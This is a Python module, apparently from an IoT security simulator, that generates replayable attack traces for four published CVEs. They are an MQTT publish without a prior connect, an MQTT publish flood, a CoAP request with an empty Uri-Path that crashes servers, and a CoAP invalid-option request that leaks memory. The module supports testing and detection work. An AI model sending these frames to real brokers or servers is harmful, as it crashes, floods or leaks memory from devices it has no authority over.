"""Attack traffic generators.

Each generator returns a deterministic, replayable trace of pre-encoded
frames with time offsets; the engine (or a live replay loop) decides when
and where to send them. Four kinds are modeled, each grounded in a published
vulnerability:

- MQTT packet crafting: a PUBLISH sent on a raw TCP connection with no
  CONNECT first, the session-assumption break behind CVE-2016-10523.
- MQTT publish flood: one CONNECT then a fixed-rate PUBLISH stream,
  the resource-exhaustion pattern of CVE-2018-1684.
- CoAP null Uri-Path: a request whose Uri-Path option is present but
  zero-length, the crash input of CVE-2019-12101.
- CoAP invalid option: a request carrying an unrecognized option the server
  cannot ignore, which leaks 24 bytes of its memory per message
  (CVE-2019-9004).
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum

from .coap import URI_PATH, CoapMessage, CoapOption, Method, MsgType, encode_message
from .mqtt import MqttFrame, encode_frame
from .profiles import DataProfile, SeededRng, format_value, next_value

DEFAULT_FLOOD_RATE = 100.0
DEFAULT_COAP_RATE = 10.0
CRAFT_REPEAT_S = 30.0

# Crash-inducing inputs are padded well past what a sensor reading occupies;
# 64 bytes of filler keeps the crafted frame visibly unlike benign publishes.
CRAFT_PAYLOAD = b"\xa5" * 64

INVALID_OPTION_NUMBER = 65000
LEAK_BYTES_PER_MESSAGE = 24

# Option 65000 with a zero-length value, hand-encoded from a zero delta base:
# delta nibble 14 means "two extension bytes holding delta - 269".
_RAW_INVALID_OPTION = bytes((0xE0,)) + (INVALID_OPTION_NUMBER - 269).to_bytes(2, "big")


class AttackError(ValueError):
    """Attack parameters out of range."""


class AttackKind(Enum):
    MQTT_PACKET_CRAFTING = "mqtt-packet-crafting"
    MQTT_PUBLISH_FLOOD = "mqtt-publish-flood"
    COAP_NULL_URIPATH = "coap-null-uripath"
    COAP_INVALID_OPTION = "coap-invalid-option"


@dataclass(frozen=True)
class AttackSpec:
    """How a device attacks: the kind plus optional rate/burst overrides."""

    kind: AttackKind
    rate_per_s: float | None = None
    topic: str = ""
    burst_count: int | None = None

    def __post_init__(self) -> None:
        if self.rate_per_s is not None and self.rate_per_s <= 0:
            raise AttackError(f"rate must be positive, got {self.rate_per_s}")
        if self.burst_count is not None and self.burst_count < 1:
            raise AttackError(f"burst count must be >= 1, got {self.burst_count}")


@dataclass(frozen=True)
class TraceFrame:
    offset_us: int
    data: bytes
    transport: str

    def __post_init__(self) -> None:
        if self.transport not in ("tcp", "udp"):
            raise AttackError(f"transport must be tcp or udp, got {self.transport!r}")

    @property
    def offset_s(self) -> float:
        return self.offset_us / 1_000_000


@dataclass(frozen=True)
class AttackTrace:
    """Time-ordered frames for one attack behavior on one connection."""

    kind: AttackKind
    frames: tuple[TraceFrame, ...]
    description: str
    cve: str

    def __post_init__(self) -> None:
        offsets = [f.offset_us for f in self.frames]
        if offsets != sorted(offsets):
            raise AttackError("trace frames must be time-ordered")

    @property
    def transport(self) -> str:
        return self.frames[0].transport if self.frames else "tcp"


def _spacing_us(rate_per_s: float) -> int:
    if rate_per_s <= 0:
        raise AttackError(f"rate must be positive, got {rate_per_s}")
    return round(1_000_000 / rate_per_s)


def mqtt_packet_crafting(topic: str, payload: bytes = CRAFT_PAYLOAD) -> AttackTrace:
    """PUBLISH with no CONNECT before it. A broker that indexes state by an
    id taken from CONNECT dereferences a session that was never created."""
    frame = encode_frame(MqttFrame.publish(topic, payload))
    return AttackTrace(
        kind=AttackKind.MQTT_PACKET_CRAFTING,
        frames=(TraceFrame(0, frame, "tcp"),),
        description="PUBLISH on a fresh connection, skipping CONNECT",
        cve="CVE-2016-10523",
    )


_DEFAULT_FLOOD_PROFILE = DataProfile.numeric(0.0, 100.0, 2)


def mqtt_publish_flood(
    topic: str,
    dp: DataProfile | None,
    rate_per_s: float,
    duration_s: float,
    client_id: str = "flood",
    rng: SeededRng | None = None,
) -> AttackTrace:
    """CONNECT at t=0, then floor(rate * duration) PUBLISHes, evenly spaced.

    Payloads are drawn from dp so the flood is not trivially dedupable;
    dp=None falls back to a generic two-decimal reading in [0, 100].
    """
    if duration_s < 0:
        raise AttackError(f"duration must be >= 0, got {duration_s}")
    spacing = _spacing_us(rate_per_s)
    count = int(rate_per_s * duration_s + 1e-9)
    if dp is None:
        dp = _DEFAULT_FLOOD_PROFILE
    if rng is None:
        rng = SeededRng(0)
    frames = [TraceFrame(0, encode_frame(MqttFrame.connect(client_id)), "tcp")]
    for k in range(count):
        body = format_value(dp, next_value(dp, rng)).encode()
        frames.append(TraceFrame(
            (k + 1) * spacing, encode_frame(MqttFrame.publish(topic, body)), "tcp"))
    return AttackTrace(
        kind=AttackKind.MQTT_PUBLISH_FLOOD,
        frames=tuple(frames),
        description=f"{rate_per_s:g}/s PUBLISH stream for {duration_s:g}s",
        cve="CVE-2018-1684",
    )


def coap_null_uripath(message_id: int = 1) -> AttackTrace:
    """Single CON GET whose Uri-Path option exists but is empty: the target
    dereferences the path string without a length check and dies."""
    msg = CoapMessage(
        msg_type=MsgType.CON,
        code=Method.GET.value,
        message_id=message_id,
        options=(CoapOption(URI_PATH, b""),),
    )
    return AttackTrace(
        kind=AttackKind.COAP_NULL_URIPATH,
        frames=(TraceFrame(0, encode_message(msg), "udp"),),
        description="GET with a zero-length Uri-Path option",
        cve="CVE-2019-12101",
    )


def coap_invalid_option(message_id: int = 1) -> AttackTrace:
    """Single CON GET carrying unassigned option 65000 (zero-length), written
    through the raw escape hatch. The receiver cannot recognize it, botches
    the rejection, and leaks 24 bytes per message."""
    msg = CoapMessage(
        msg_type=MsgType.CON,
        code=Method.GET.value,
        message_id=message_id,
        raw_options=_RAW_INVALID_OPTION,
    )
    return AttackTrace(
        kind=AttackKind.COAP_INVALID_OPTION,
        frames=(TraceFrame(0, encode_message(msg), "udp"),),
        description="GET with unrecognized option 65000",
        cve="CVE-2019-9004",
    )


def estimate_leak(message_count: int) -> int:
    """Bytes of server memory a CVE-2019-9004 burst wastes."""
    if message_count < 0:
        raise AttackError(f"message count must be >= 0, got {message_count}")
    return LEAK_BYTES_PER_MESSAGE * message_count
